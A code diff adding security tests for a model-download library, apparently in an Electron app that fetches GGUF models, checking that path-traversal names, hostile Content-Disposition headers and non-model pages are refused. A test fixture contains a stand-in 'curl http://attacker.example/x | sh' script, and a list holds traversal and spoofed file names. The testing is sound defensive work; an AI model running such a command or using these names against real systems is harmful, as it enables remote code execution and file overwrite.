@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { HospitalConfig } from '../../electron/core/config/hospital-config.ts'
 import { readHospitalConfig } from '../../electron/core/config/hospital-config.ts'
 import { isWorkstationError } from '../../electron/core/errors.ts'
+import { pathInside, safeModelFileName } from '../../electron/core/models/library/model-file-name.ts'
 import { ModelLibrary } from '../../electron/core/models/library/model-library.ts'
 import { writeTestModel } from '../../electron/core/models/test-model.ts'
 import { runHuatuo } from '../support/cli.ts'
@@ -218,17 +219,34 @@ describe('remove', () => {
   })
 })
 
+/** Every file name under `root`, at any depth. */
+async function filesUnder(root: string): Promise<string[]> {
+  const entries = await readdir(root, { recursive: true, withFileTypes: true })
+  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name))
+}
+
 describe('download', () => {
   let server: ModelServer
   const path = '/hospital/HuatuoGPT2-7B-GGUF/resolve/main/HuatuoGPT2-7B.Q4_K_M.gguf'
   const plainPath = '/files/plain.gguf'
   const liarPath = '/files/liar.gguf'
+  const vanishingPath = '/files/vanishing.gguf'
+  const dispositionPath = '/files/named-by-us.gguf'
+  const htmlPath = '/files/error-page.gguf'
+  const script = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n')
 
   beforeAll(async () => {
     server = await startModelServer({
       [path]: { body: tinyBytes, etag: `"${tinySha}"` },
       [plainPath]: { body: tinyBytes },
       [liarPath]: { body: tinyBytes, etag: `"${'ef'.repeat(32)}"` },
+      [vanishingPath]: { body: tinyBytes },
+      // The server decodes paths, so these answer the percent-encoded ../../ names below.
+      '/script/../../x.gguf': { body: script },
+      '/model/../../x.gguf': { body: tinyBytes },
+      [dispositionPath]: { body: tinyBytes, headers: { 'Content-Disposition': `attachment; filename="../../evil.gguf"; filename*=UTF-8''..%2F..%2Fevil.gguf` } },
+      // A portal's sign-in page served with 200 instead of the model, 8 MiB of it.
+      [htmlPath]: { body: Buffer.concat([Buffer.from('<!DOCTYPE html><html><body>请登录</body></html>'), Buffer.alloc(8 * 2 ** 20, 0x20)]) },
     })
   })
   afterAll(() => server.close())
@@ -332,5 +350,102 @@ describe('download', () => {
     expect(removed.status).toBe(0)
     expect((await stat(join(modelsDir, 'library.json'))).isFile()).toBe(true)
     expect(JSON.parse((await runHuatuo(['models', 'list', '--models-dir', modelsDir, '--json'])).stdout)).toEqual([])
+  })
+
+  it('a name that decodes to ../ is refused before any traffic; nothing is written outside the models folder, or kept', async () => {
+    const root = await mkdtemp(join(tmpdir(), 'huatuo-hostile-'))
+    try {
+      const library = await freshLibrary({ modelsDir: join(root, 'a', 'b', 'models') })
+      const before = server.requests.length
+      for (const prefix of ['/script/', '/model/']) {
+        expect(await codeOf(library.download(`${server.url}${prefix}%2E%2E%2F%2E%2E%2Fx.gguf`))).toBe('DOWNLOAD_NAME_UNSAFE')
+        expect(await codeOf(library.download(`${server.url}${prefix}..%5C..%5Cx.gguf`))).toBe('DOWNLOAD_NAME_UNSAFE')
+      }
+      expect(server.requests.length).toBe(before)
+      expect((await filesUnder(root)).filter((file) => file.endsWith('x.gguf'))).toEqual([])
+      expect(await library.list()).toEqual([])
+      expect(await leftovers(library.modelsDir)).toEqual([])
+    } finally {
+      await rm(root, { recursive: true, force: true })
+    }
+  })
+
+  it('names the file from the address, never from the server\'s Content-Disposition', async () => {
+    const root = await mkdtemp(join(tmpdir(), 'huatuo-disposition-'))
+    try {
+      const library = await freshLibrary({ modelsDir: join(root, 'models') })
+      const { model } = await library.download(`${server.url}${dispositionPath}`)
+      expect(model.files.map((file) => file.name)).toEqual(['named-by-us.gguf'])
+      expect((await filesUnder(root)).filter((file) => file.includes('evil'))).toEqual([])
+    } finally {
+      await rm(root, { recursive: true, force: true })
+    }
+  })
+
+  it('a server sending something that is not a GGUF model is refused at once (MODEL_NOT_GGUF), and nothing of it is kept', async () => {
+    // A stall after the first bytes: a download that went on to the end would report DOWNLOAD_STALLED instead.
+    const library = await freshLibrary({ downloadStallMs: 10_000 })
+    server.once(htmlPath, { stallAfterBytes: 64 * 1024 })
+    const started = Date.now()
+    expect(await codeOf(library.download(`${server.url}${htmlPath}`))).toBe('MODEL_NOT_GGUF')
+    expect(Date.now() - started).toBeLessThan(5000)
+    expect(await filesUnder(library.modelsDir)).toEqual([])
+    expect(await library.list()).toEqual([])
+  })
+
+  it('an interrupted download keeps its partial file to resume; one the server no longer has is removed', async () => {
+    const library = await freshLibrary()
+    server.once(vanishingPath, { cutAfterBytes: 100_000 })
+    expect(await codeOf(library.download(`${server.url}${vanishingPath}`))).toBe('DOWNLOAD_FAILED')
+    expect((await filesUnder(library.modelsDir)).map((file) => basename(file)).sort()).toEqual(['vanishing.gguf.part', 'vanishing.gguf.part.json'])
+    server.once(vanishingPath, 'not-found')
+    expect(await codeOf(library.download(`${server.url}${vanishingPath}`))).toBe('DOWNLOAD_NOT_FOUND')
+    expect(await filesUnder(library.modelsDir)).toEqual([])
+  })
+
+})
+
+describe('download file names', () => {
+  it('accepts plain .gguf names, Chinese ones included', () => {
+    for (const name of ['HuatuoGPT2-7B.Q4_K_M.gguf', 'HuatuoGPT-o1-72B-Q4_K_M-00001-of-00003.gguf', '华佗 模型.gguf']) {
+      expect(safeModelFileName(name, 'test')).toBe(name)
+    }
+  })
+
+  it('refuses separators, "..", control characters, hidden, device and overlong names', () => {
+    const hostile = [
+      '../x.gguf',
+      '..\\x.gguf',
+      'a/b.gguf',
+      '/etc/x.gguf',
+      'C:x.gguf',
+      '..gguf',
+      'x\u0000.gguf',
+      'x\n.gguf',
+      'x\u202e.fuggf.gguf',
+      '.hidden.gguf',
+      'NUL.gguf',
+      'com1.gguf',
+      'x.gguf.',
+      `${'模'.repeat(80)}.gguf`,
+      'model.bin',
+      '',
+    ]
+    for (const name of hostile) {
+      let code: unknown = 'accepted'
+      try {
+        safeModelFileName(name, 'test')
+      } catch (error) {
+        code = isWorkstationError(error) ? error.code : error
+      }
+      expect([name, code]).toEqual([name, 'DOWNLOAD_NAME_UNSAFE'])
+    }
+  })
+
+  it('a path is only ever directly inside its folder', () => {
+    expect(pathInside('/models/.downloads/k', 'a.gguf')).toBe('/models/.downloads/k/a.gguf')
+    for (const name of ['../a.gguf', 'sub/a.gguf', '/tmp/a.gguf', '.']) {
+      expect(() => pathInside('/models/.downloads/k', name)).toThrow()
+    }
   })
 })
